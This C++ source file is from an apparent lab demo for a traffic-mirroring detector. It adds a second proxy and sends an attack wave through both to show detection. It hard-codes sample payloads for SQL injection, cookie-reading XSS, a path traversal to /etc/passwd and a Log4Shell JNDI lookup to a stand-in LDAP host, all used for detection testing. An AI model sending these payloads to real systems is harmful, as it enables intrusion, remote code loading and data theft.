// SPDX-License-Identifier: Apache-2.0
// Chapters 3 and 4: a second proxy, and attacks through both.
#include <algorithm>
#include <array>
#include <map>
#include <set>

#include "core/lab/demo_stage.h"
#include "core/lab/demo_visitor.h"

namespace mirrorscope::lab {
namespace {

using traffic::AttackType;

constexpr int kVisits = 30;
constexpr int kWaves = 4;
constexpr std::string_view kForm = "application/x-www-form-urlencoded";

struct Attack {
    AttackType type;
    Visit visit;
};

/// One of each kind that the rules of any paranoia level find.
const std::vector<Attack>& attacks() {
    static const std::vector<Attack> all{
        {AttackType::Sqli, {"GET", "/catalog/item?id=1%27%20OR%201=1--%20-"}},
        {AttackType::Xss,
         {"POST", "/profile", {}, kForm, "bio=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"}},
        {AttackType::Traversal, {"GET", "/download?file=../../../../etc/passwd"}},
        {AttackType::Java, {"GET", "/login", "X-Api-Version: ${${lower:j}ndi:ldap://198.51.100.9/a}\r\n"}},
    };
    return all;
}

LabResult<traffic::RequestId> lastRequest(Stage& stage) {
    const auto progress = stage.progress();
    return progress ? LabResult<traffic::RequestId>(progress->lastRequest) : progress.error();
}

/// Sources that sent something behind that request.
LabResult<std::set<traffic::SourceId>> sendersAfter(Stage& stage, traffic::RequestId after) {
    const auto rows = stage.requestsAfter(after);
    if (!rows) {
        return rows.error();
    }
    std::set<traffic::SourceId> out;
    for (const auto& row : *rows) {
        out.insert(row.context.source);
    }
    return out;
}

/// Envoy where there is one, else a second nginx.
LabResult<ProxyProgram> secondProgram(Stage& stage) {
    auto envoy = stage.find(ProxyKind::Envoy, stage.options().envoy);
    const bool isWanted = !stage.options().envoy.empty();
    const bool isMissing = !envoy && envoy.error().kind == LabFailure::Kind::NotFound;
    return isMissing && !isWanted ? stage.find(ProxyKind::Nginx, stage.options().nginx) : std::move(envoy);
}

/// The hardened form knows its balancer, which is us.
std::vector<snippets::OptionValue> secondOptions(ProxyKind kind) {
    const bool isEnvoy = kind == ProxyKind::Envoy;
    return {{"--name", "edge-2"},
            {isEnvoy ? "--trusted-hops" : "--trusted-balancer", isEnvoy ? "1" : "127.0.0.1"}};
}

LabResult<void> visitSecond(Stage& stage) {
    auto visitor = DemoVisitor::to(stage.second->url());
    if (!visitor) {
        return visitor.error();
    }
    for (int i = 0; i < kVisits; ++i) {
        if ((*visitor)->send(
                {"GET", "/api/v2/items?page=" + std::to_string(i), balancerHeaders(demoClient(i))},
                stage.cancel()) != 200) {
            return stage.cancel().isCancelled() ? failureOf({base::ErrorCode::Cancelled, {}})
                                                : notShown("the second proxy answers 200");
        }
    }
    return {};
}

LabResult<void> sendWave(Stage& stage) {
    for (const RunningProxy* proxy : {stage.first.get(), stage.second.get()}) {
        auto visitor = DemoVisitor::to(proxy->url());
        if (!visitor) {
            return visitor.error();
        }
        for (int i = 0; i < kWaves; ++i) {
            for (const Attack& attack : attacks()) {
                Visit visit = attack.visit;
                visit.headers += balancerHeaders(demoClient(proxy == stage.first.get() ? 3 : 5));
                (*visitor)->send(visit, stage.cancel());
            }
        }
    }
    return {};
}

/// Attack types by source.
std::map<std::string, std::set<AttackType>> seenIn(const std::vector<traffic::AttackRow>& rows) {
    std::map<std::string, std::set<AttackType>> out;
    for (const auto& row : rows) {
        out[row.sourceName].insert(row.attack.type);
    }
    return out;
}

bool areAllSeen(const std::vector<traffic::AttackRow>& rows) {
    const auto seen = seenIn(rows);
    const auto whole = std::ranges::count_if(seen, [](const auto& source) {
        return std::ranges::all_of(attacks(),
                                   [&](const Attack& attack) { return source.second.contains(attack.type); });
    });
    return whole >= 2;
}

std::string rowText(const traffic::AttackRow& row) {
    const auto& attack = row.attack;
    return std::string(traffic::attackTypeInfo(attack.type).title) + " through " + row.sourceName + " from " +
           (attack.client.empty() ? "an unknown client" : attack.client) + ": " +
           counted(attack.requests, "request") + ", " + counted(attack.hits, "hit") + ", " + attack.endpoint;
}

}  // namespace

LabResult<void> addSecondProxy(Stage& stage) {
    stage.chapter("A second proxy says who it is");
    const auto program = secondProgram(stage);
    const auto before = lastRequest(stage);
    if (!program || !before) {
        return program ? before.error() : program.error();
    }
    auto proxy = stage.startProxy(*program, snippets::Variant::Hardened, secondOptions(program->kind),
                                  stage.recorder().secondPort());
    if (!proxy) {
        return proxy.error();
    }
    stage.second = std::move(*proxy);
    if (auto said =
            stage.say(program->nameAndVersion() + " joins, in the hardened form, and knows its balancer.");
        !said) {
        return said;
    }
    if (auto visited = visitSecond(stage); !visited) {
        return visited;
    }
    traffic::Source found;
    const auto isThere = [&]() -> LabResult<bool> {
        const auto senders = sendersAfter(stage, *before);
        const auto sources = stage.sources();
        if (!senders || !sources) {
            return senders ? sources.error() : senders.error();
        }
        for (const auto& source : *sources) {
            if (senders->contains(source.id) && source.listener == "edge" &&
                traffic::sourceKindName(source.kind) == proxyName(program->kind)) {
                found = source;
            }
        }
        return found.id != 0;
    };
    if (auto seen =
            stage.waitUntil(isThere, "a second source of kind " + std::string(proxyName(program->kind)));
        !seen) {
        return seen;
    }
    stage.show("new source " + found.name + ": " + std::string(traffic::sourceKindName(found.kind)) +
               ", told by " + found.identifiedBy + ", " + std::to_string(found.confidence) + " % sure");
    return stage.say("Nobody told the recorder. The proxy's own headers did.");
}

LabResult<void> attackThroughBoth(Stage& stage) {
    stage.chapter("An attack wave through both");
    if (auto said = stage.say("SQL injection, cross-site scripting, a path traversal and Log4Shell, " +
                              std::to_string(kWaves) + " times each through each proxy.");
        !said) {
        return said;
    }
    if (auto sent = sendWave(stage); !sent) {
        return sent;
    }
    std::vector<traffic::AttackRow> rows;
    const auto areSeen = [&]() -> LabResult<bool> {
        auto asked = stage.attacks();
        if (!asked) {
            return asked.error();
        }
        rows = std::move(*asked);
        return areAllSeen(rows);
    };
    if (auto seen = stage.waitUntil(areSeen, "attacks of all four types through both proxies"); !seen) {
        return seen;
    }
    for (const auto& row : rows) {
        stage.show(rowText(row));
    }
    return stage.say(
        "Every hit has its rule and its bytes in the window. Nothing was blocked: a mirror only looks.");
}

}  // namespace mirrorscope::lab
